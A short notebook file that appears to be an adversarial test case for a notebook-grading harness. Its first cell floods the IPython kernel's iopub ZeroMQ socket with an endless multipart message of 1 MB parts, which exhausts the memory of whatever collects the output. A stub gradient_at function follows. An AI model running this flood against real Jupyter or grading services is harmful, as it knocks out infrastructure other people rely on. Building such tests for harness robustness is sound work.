# attack: one message of parts without end, for whoever gathers it to fill their memory
# verdict: failed, error, crashed, timeout
# %%
import zmq

kernel = get_ipython().kernel
socket = kernel.iopub_thread.socket
part = b"x" * (1 << 20)
try:
    while True:
        socket.send(part, zmq.SNDMORE)
except zmq.ZMQError:
    pass


# %%
def gradient_at(x, y):
    return None
